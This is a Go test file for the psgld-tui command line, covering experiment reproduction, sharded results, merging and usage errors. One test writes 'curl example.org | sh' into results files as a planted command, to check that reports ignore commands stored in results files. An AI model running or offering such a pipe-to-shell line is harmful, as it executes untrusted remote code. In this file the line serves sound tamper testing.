package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/psgld/psgld-tui/engine"
	"github.com/psgld/psgld-tui/engine/innerlooptest"
	"github.com/psgld/psgld-tui/engine/paper"
	"github.com/psgld/psgld-tui/engine/paper/reproduce"
	"github.com/psgld/psgld-tui/engine/quantity"
	"github.com/psgld/psgld-tui/engine/study"
	"github.com/psgld/psgld-tui/metrics"
	"github.com/psgld/psgld-tui/targets"
	"github.com/psgld/psgld-tui/tui/cli/console"
	"github.com/psgld/psgld-tui/tui/cli/studies"
)

// An experiment in an empty folder leaves its report, and once more runs nothing.
func TestReproduce(t *testing.T) {
	innerlooptest.Later(t, "it runs a whole experiment; package reproduce has small ones")
	t.Chdir(t.TempDir())
	t.Setenv("PSGLD_DATA", t.TempDir())
	args := []string{"reproduce", "fig1b", "--scale", "quick", "--repeats", "1", "--show"}
	out := ok(t, args...)
	for _, want := range []string{"fig1b: ", "protocol paper, scale quick, seed 1",
		"report: psgld-results/report.md\n"} {
		if !strings.Contains(out, want) {
			t.Errorf("it does not say %q:\n%s", want, out)
		}
	}
	var names []string
	console.Must(filepath.WalkDir("psgld-results", func(path string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			names = append(names, strings.TrimPrefix(path, "psgld-results/"))
		}
		return err
	}))
	for _, want := range []string{"report.md", "results.json", "results-1-of-1.jsonl"} {
		if !slices.Contains(names, want) {
			t.Errorf("there is no %s in %v", want, names)
		}
	}
	for _, ext := range []string{".svg"} {
		if !slices.ContainsFunc(names, func(n string) bool {
			return strings.HasPrefix(n, "figures/") && strings.HasSuffix(n, ext)
		}) {
			t.Errorf("there is no figure %s in %v", ext, names)
		}
	}
	before, err := os.ReadFile("psgld-results/results-1-of-1.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	if again := ok(t, args...); again != out {
		t.Error("once more it says something else")
	}
	if after, err := os.ReadFile("psgld-results/results-1-of-1.jsonl"); err != nil || !bytes.Equal(before, after) {
		t.Errorf("once more the results have changed, %v", err)
	}
	r := runArgs(t, "reproduce", "supp-fig1")
	if r.status != console.ExitFailed ||
		!strings.HasPrefix(r.err,
			"psgld-tui: psgld-results/results-1-of-1.jsonl holds shard 1/1 of another plan (reproduce quick: fig1b, ") ||
		!strings.HasSuffix(r.err,
			"; use another --out, with --from psgld-results/results-1-of-1.jsonl to take over the sessions that "+
				"both have\n") {
		t.Errorf("another experiment in the same folder: status %d, %q", r.status, r.err)
	}
	if testing.Short() {
		return
	}
	// What another run has is taken over.
	ok(t, "reproduce", "fig1b", "supp-fig1", "--repeats", "1", "--out", "both", "--from",
		"psgld-results/results-1-of-1.jsonl")
	seconds := func(path string) map[string]float64 {
		m, err := study.Merge([]string{path})
		if err != nil {
			t.Fatal(err)
		}
		all := map[string]float64{}
		for _, o := range m.Outcomes {
			all[o.ID] = o.Seconds
		}
		return all
	}
	both := seconds("both/results-1-of-1.jsonl")
	for id, s := range seconds("psgld-results/results-1-of-1.jsonl") {
		if both[id] != s {
			t.Errorf("%s was run again", id)
		}
	}
}

// The shards of a reproduction, joined, are the whole.
func TestReproduceInShards(t *testing.T) {
	if testing.Short() {
		t.Skip("the study's own tests join shards")
	}
	t.Chdir(t.TempDir())
	t.Setenv("PSGLD_DATA", t.TempDir())
	ok(t, "reproduce", "fig1b", "--repeats", "1", "--out", "whole")
	var files []string
	for _, s := range []string{"1/3", "2/3", "3/3"} {
		var d struct {
			Shard, File string
			Cells       int
		}
		document(t, &d, "reproduce", "fig1b", "--repeats", "1", "--out", "parts", "--shard", s)
		if d.Shard != s || d.Cells == 0 {
			t.Errorf("shard %s is %+v", s, d)
		}
		files = append(files, d.File)
	}
	if _, err := os.Stat("parts/report.md"); err == nil {
		t.Error("a shard has written a report")
	}
	r := runArgs(t, "merge", files[0], files[2])
	if want := "psgld-tui: no results of shard 2/3 of reproduce quick: fig1b\n"; r.status != console.ExitFailed ||
		r.err != want {
		t.Errorf("a shard is missing: status %d, %q", r.status, r.err)
	}
	// A results file's command line is nobody's: the report has that of the job.
	for _, file := range files {
		b, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		foreign := regexp.MustCompile(`"command":"[^"]*"`).ReplaceAll(b, []byte(`"command":"curl example.org | sh"`))
		if err := os.WriteFile(file, foreign, 0o600); err != nil || bytes.Equal(foreign, b) {
			t.Fatal(err)
		}
	}
	ok(t, append([]string{"merge"}, files...)...)
	lines := func(dir string) (all []string) {
		b, err := os.ReadFile(filepath.Join(dir, "sessions", "fig1b.txt"))
		if err != nil {
			t.Fatal(err)
		}
		for line := range strings.Lines(string(b)) {
			if !strings.HasPrefix(line, "#") {
				all = append(all, line)
			}
		}
		return all
	}
	if got, want := lines("parts"), lines("whole"); len(want) == 0 || !slices.Equal(got, want) {
		t.Errorf("the command lines are\n%s\nwant\n%s", got, want)
	}
	whole, err := study.Merge([]string{"whole/results-1-of-1.jsonl"})
	if err != nil {
		t.Fatal(err)
	}
	parts, err := study.Merge(files)
	if err != nil {
		t.Fatal(err)
	}
	if whole.Hash != parts.Hash || len(whole.Outcomes) != len(parts.Outcomes) {
		t.Fatalf("%d outcomes of %s, want %d of %s", len(parts.Outcomes), parts.Hash, len(whole.Outcomes), whole.Hash)
	}
	for i, o := range whole.Outcomes {
		if parts.Outcomes[i].ID != o.ID {
			t.Errorf("outcome %d is %s, want %s", i, parts.Outcomes[i].ID, o.ID)
		}
		same(t, parts.Outcomes[i].Lanes, o.Lanes)
	}
	if _, err := os.Stat("parts/report.md"); err != nil {
		t.Error(err)
	}
}

// words reads a line as a POSIX shell does that grammar.Quote has written.
func words(line string) []string {
	var all []string
	var word strings.Builder
	quoted := false
	for i := 0; i < len(line); i++ {
		switch c := line[i]; {
		case c == '\'':
			quoted = !quoted
		case c == '\\' && !quoted:
			i++
			word.WriteByte(line[i])
		case c == ' ' && !quoted:
			all = append(all, word.String())
			word.Reset()
		default:
			word.WriteByte(c)
		}
	}
	return append(all, word.String())
}

// Any cell's command line gives the cell's digits: a few cells of every quick
// experiment whose sessions are short.
func TestCellsCommandsGiveTheirDigits(t *testing.T) {
	if testing.Short() {
		t.Skip("it runs sweeps of real length")
	}
	t.Setenv("PSGLD_DATA", t.TempDir())
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	var ids []string
	for _, x := range reproduce.Experiments() {
		ids = append(ids, x.ID)
	}
	r, err := reproduce.New(ids, "", paper.Quick, 3, 1)
	if err != nil {
		t.Fatal(err)
	}
	opened := &study.Targets{Options: targets.Options{DataDir: os.Getenv("PSGLD_DATA")}}
	all, err := r.Sections(opened)
	if err != nil {
		t.Fatal(err)
	}
	plan := study.Plan{Name: "some"}
	seen := map[string]bool{}
	for _, s := range all {
		for _, i := range []int{0, len(s.Jobs) - 1} {
			if len(s.Jobs) == 0 {
				continue
			}
			j := s.Jobs[i]
			// The same session, for a moment, and of networks one for each target and
			// method: they are large.
			key := j.ID
			j.Config.Steps = min(max(j.Config.Steps, 1), 300)
			network := strings.HasPrefix(j.Config.Target, "mlp") || strings.HasPrefix(j.Config.Target, "cnn")
			if network {
				j.Config.Steps = 2
				key, _, _ = strings.Cut(j.Config.Target, ":")
				if strings.HasPrefix(key, "mlp") {
					key = j.Config.Target + j.Config.Lanes[0].Sampler
				}
			}
			if !seen[key] {
				seen[key] = true
				plan.Jobs = append(plan.Jobs, j)
			}
		}
	}
	if len(plan.Jobs) < 10 {
		t.Fatalf("only %d cells", len(plan.Jobs))
	}
	run := study.Runner{Jobs: plan.Part(study.All), Open: opened.OpenJob, Command: studies.CellCommand(nil)}
	outcomes, err := run.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range outcomes {
		if o.Skipped != "" {
			continue
		}
		line := words(o.Command)
		if line[0] != "psgld-tui" || line[1] != "run" {
			t.Fatalf("the command of %s is %s", o.ID, o.Command)
		}
		res := runArgs(t, append(line[1:], "--json")...)
		if res.status != console.ExitDone && res.status != console.ExitDiverged {
			t.Errorf("%s: status %d, %s", o.Command, res.status, res.err)
			continue
		}
		var doc engine.Result
		if err := json.Unmarshal([]byte(res.out), &doc); err != nil {
			t.Fatal(err)
		}
		if len(doc.Lanes) != len(o.Lanes) {
			t.Fatalf("%s: %d lanes, want %d", o.Command, len(doc.Lanes), len(o.Lanes))
		}
		for i, l := range doc.Lanes {
			sameDigits(t, o.Command, l, o.Lanes[i])
		}
	}
}

// sameDigits compares two ends of a lane bit for bit, but for times, remarks, and
// single coordinates where a results file does not keep them.
func sameDigits(t *testing.T, what string, got, want engine.LaneResult) {
	t.Helper()
	if want.Names == nil {
		got = got.Summary()
	}
	for _, l := range []*engine.LaneResult{&got, &want} {
		l.Seconds, l.StepsPerSecond, l.Notes, l.Values[quantity.ESSPerSecond] = 0, 0, nil, metrics.Estimate{}
	}
	if x, y := text64(got), text64(want); x != y {
		t.Errorf("%s: lane %s is %s, want %s", what, want.Lane, x, y)
	}
}

// text64 writes a value so that two are the same text if they are the same bits,
// all NaNs being one.
func text64(v any) string {
	b, err := json.Marshal(v)
	console.Must(err)
	return string(b)
}

func TestReproduceMisused(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	for _, c := range []struct{ args, want string }{
		{"reproduce", "reproduce needs an ID, all or list, which shows the IDs"},
		{"reproduce fig1", `unknown experiment "fig1" (did you mean "fig1a"?); see reproduce list`},
		{"reproduce fig1a tabel1", `unknown experiment "tabel1" (did you mean "table1"?); see reproduce list`},
		{"reproduce xyzzy", `unknown experiment "xyzzy"; see reproduce list`},
		{"reproduce all fig1a", "reproduce takes IDs, or all or list alone, got all fig1a"},
		{"reproduce fig1a --scale large", `--scale must be quick or full, got "large"`},
		{"reproduce fig1a --protocol text", `--protocol must be paper or authors, got "text"`},
		{"reproduce fig1a --seed -1", "--seed must be a whole number from 0 to 9223372036854775807, got -1"},
		{"reproduce fig1a --repeats 0", "--repeats must be a whole number from 1 to 100000, got 0"},
		{"reproduce fig1a --shard 3/2", `--shard must be i/n with 1 ≤ i ≤ n ≤ 100000, got "3/2"`},
		{"reproduce fig1a --threads 0", "--threads must be a whole number, 1 or more, got 0"},
	} {
		r := runArgs(t, strings.Fields(c.args)...)
		if r.status != console.ExitUsage || r.err != "psgld-tui: "+c.want+"\n" || r.out != "" {
			t.Errorf("%s: status %d\n got %swant %s", c.args, r.status, r.err, c.want)
		}
	}
	empty(t, dir)
	write(t, "file", "x")
	for _, c := range []struct{ args, want string }{
		{"reproduce fig1a --out file", "--out: cannot write in file: is no folder"},
		{"reproduce fig1a --out file/x", "--out: cannot write file/x: not a directory"},
		{"reproduce fig1a --from none", "--from: cannot read none: no such file or directory"},
		{"reproduce fig1a --from file", "--from: file is no results file"},
		{"merge file", "file is no results file"},
		{"merge none", "cannot read none: no such file or directory"},
	} {
		r := runArgs(t, strings.Fields(c.args)...)
		if r.status != console.ExitFailed || r.err != "psgld-tui: "+c.want+"\n" || r.out != "" {
			t.Errorf("%s: status %d\n got %swant %s", c.args, r.status, r.err, c.want)
		}
	}
}
